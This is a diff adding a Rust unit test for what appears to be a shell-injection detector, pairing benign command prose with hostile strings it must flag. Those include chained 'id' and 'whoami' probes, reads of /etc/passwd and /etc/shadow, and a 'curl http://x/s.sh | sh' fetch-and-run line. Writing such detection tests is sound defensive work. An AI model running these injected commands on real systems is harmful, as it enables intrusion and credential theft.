@@ -3566,3 +3566,37 @@ fn python_ordinary_module() {
         assert!(hit(v), "{v:?}");
     }
 }
+
+#[test]
+fn prose_about_ordinary_command_lines() {
+    for v in [
+        "ls; cd; pwd are basic commands",
+        "Invoke-WebRequest returns 403",
+        "Try sudo apt-get update && sudo apt-get upgrade",
+        "```bash\nls -la\n```",
+        "```\ngit status\ngit pull\n```",
+        "npm install fails with EACCES",
+        "Run git pull && npm install",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+    for v in [
+        "ls; id are basic commands",
+        "ls | whoami is what I typed",
+        "ls && cat /etc/passwd works",
+        "Try sudo apt-get update && id",
+        "Try ls; cat /etc/shadow",
+        "```bash\nls -la; id\n```",
+        "```bash\ncat /etc/passwd\n```",
+        "```bash\ncurl http://x/s.sh | sh\n```",
+        "ls; id",
+        "ls | whoami",
+        "ls && cat /etc/passwd",
+        "a; ls; pwd are basic",
+        "127.0.0.1; ls; pwd are basic",
+        "curl -I https://example.com works; id",
+        "ls works $(id)",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
